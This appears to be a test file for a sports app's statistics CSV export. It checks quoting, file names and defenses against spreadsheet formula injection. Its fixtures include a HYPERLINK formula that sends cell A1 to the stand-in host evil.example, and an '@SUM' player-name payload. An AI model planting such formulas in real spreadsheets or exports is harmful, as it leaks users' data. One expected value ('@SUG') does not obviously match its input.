import { describe, expect, it } from 'vitest';
import { quartersTable } from '../../../src/app/statistics/tables/boxScoreTables';
import { NO_CLIPS } from '../../../src/app/statistics/clips/clipLinker';
import { csvFileName } from '../../../src/app/statistics/export/csvFileName';
import { playersTable } from '../../../src/app/statistics/tables/playersTable';
import { cell, statTableCsv, type StatTableModel } from '../../../src/app/statistics/tables/statTable';
import { computeStatistics } from '../../../src/domain/stats';
import { matchOf, matchPlayer, shot } from '../../unit/domain/stats/statsBuilders';

const BOM = '\uFEFF';
const HOSTILE_TEAM = '=HYPERLINK("http://evil.example/?x="&A1,"Mariners")';

/** A table of one column per cell given, headed h1, h2, … */
function tableOf(...rows: (string | number)[][]): StatTableModel {
  return {
    name: 'test',
    caption: 'Test',
    columns: rows[0]!.map((_, index) => ({ header: `h${index + 1}` })),
    rows: rows.map((cells, index) => ({ key: String(index), cells: cells.map((text) => cell(text)) })),
  };
}

/** The statistics of one match whose home team and player carry names an attacker chose. */
function hostileTeams() {
  const match = matchOf([shot('GOAL', { playerNumber: 7 })], [], {
    matchPlayers: [matchPlayer(7, 107, { firstName: 'Gabor', lastName: '@SUM(1+1)*cmd' })],
  });
  return computeStatistics([{ ...match, match: { ...match.match, team1: { id: 1, name: HOSTILE_TEAM } } }]).teams;
}

describe('the statistics CSV export', () => {
  it('quotes fields with commas, quotes and line breaks as RFC 4180 says, CRLF between records', () => {
    expect(
      statTableCsv(
        tableOf(['Ester Ramos, L', '0/0', 'said "no"'], ['Two\nlines', 3, ''], ['Carriage\rreturn', '', '']),
      ),
    ).toBe(`${BOM}h1,h2,h3\r\n"Ester Ramos, L",0/0,"said ""no"""\r\n"Two\nlines",3,\r\n"Carriage\rreturn",,\r\n`);
  });

  it('leaves plain fields, signs and percentages alone, so a plus-minus stays a figure', () => {
    expect(statTableCsv(tableOf(['-3', '+2', '42.9%', 'Müller']))).toBe(`${BOM}h1,h2,h3,h4\r\n-3,+2,42.9%,Müller\r\n`);
  });

  it('writes a team name that is a formula as text', () => {
    const rows = statTableCsv(quartersTable(hostileTeams(), NO_CLIPS)).split('\r\n');
    expect(rows[1]).toBe(`"'=HYPERLINK(""http://evil.example/?x=""&A1,""Mariners"")",1,0,0,0,1`);
  });

  it('writes a player name that is a formula as text, and so the +/− heading too', () => {
    const [home] = hostileTeams();
    const [header, player] = statTableCsv(playersTable(home!, NO_CLIPS)).split('\r\n');
    expect(header).toMatch(/,"'\+\/−"$/);
    expect(player).toMatch(/^"'@SUG",7,1\/1,/);
  });

  it('names the file after the table, the matches and the date', () => {
    expect(csvFileName('Box score', ['USA - ESP'], '2017-07-18T10:00:00.000Z')).toBe(
      'poolside_box-score_usa-esp_2017-07-18.csv',
    );
    expect(csvFileName('players-España', ['A - B', 'C - D'], null)).toBe('poolside_players-espana_a-b_c-d.csv');
    expect(csvFileName('box-score', ['1', '2', '3', '4'], '2025-01-02')).toBe(
      'poolside_box-score_4-matches_2025-01-02.csv',
    );
  });
});
